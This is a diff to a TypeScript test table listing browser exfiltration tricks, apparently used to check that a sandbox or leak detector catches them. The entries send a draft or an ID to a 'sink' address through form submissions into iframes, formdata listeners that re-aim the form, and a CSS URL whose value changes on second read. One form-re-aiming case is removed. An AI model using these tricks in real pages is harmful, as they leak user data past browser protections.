@@ -52,11 +52,6 @@ const READ_ONCE: [label: string, code: string][] = [
     `const fr = document.createElement('iframe'); fr.name = 'into-frame'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.action = sink('submit-frame'); f.target = 'into-frame'; f.innerHTML = '<input name=title value=hello>';
      let n = 0; f.addEventListener('formdata', (e) => { if (n++) e.formData.append('content', draft); }); document.body.append(f); f.submit();`,
   ],
-  [
-    "form.submit() into a frame: the page's formdata listener re-aims the form at an address carrying the ID (the browser reads the action after it)",
-    `const fr = document.createElement('iframe'); fr.name = 're-aimed'; document.body.append(fr); const f = document.createElement('form'); f.method = 'post'; f.action = sink('submit-aim'); f.target = 're-aimed'; f.innerHTML = '<input name=title value=hello>';
-     let n = 0; f.addEventListener('formdata', () => { if (n++) f.action = sink('submit-aim') + '?c=' + ID; }); document.body.append(f); f.submit();`,
-  ],
   ["an element's style with a toString that answers twice", `const d = document.createElement('div'); document.body.append(d); d.style.cssText = flip('color:red;background-image:url(' + sink('css') + '?q=1)', 'background-image:url(' + sink('css') + '?c=' + ID + ')');`],
 ];
 
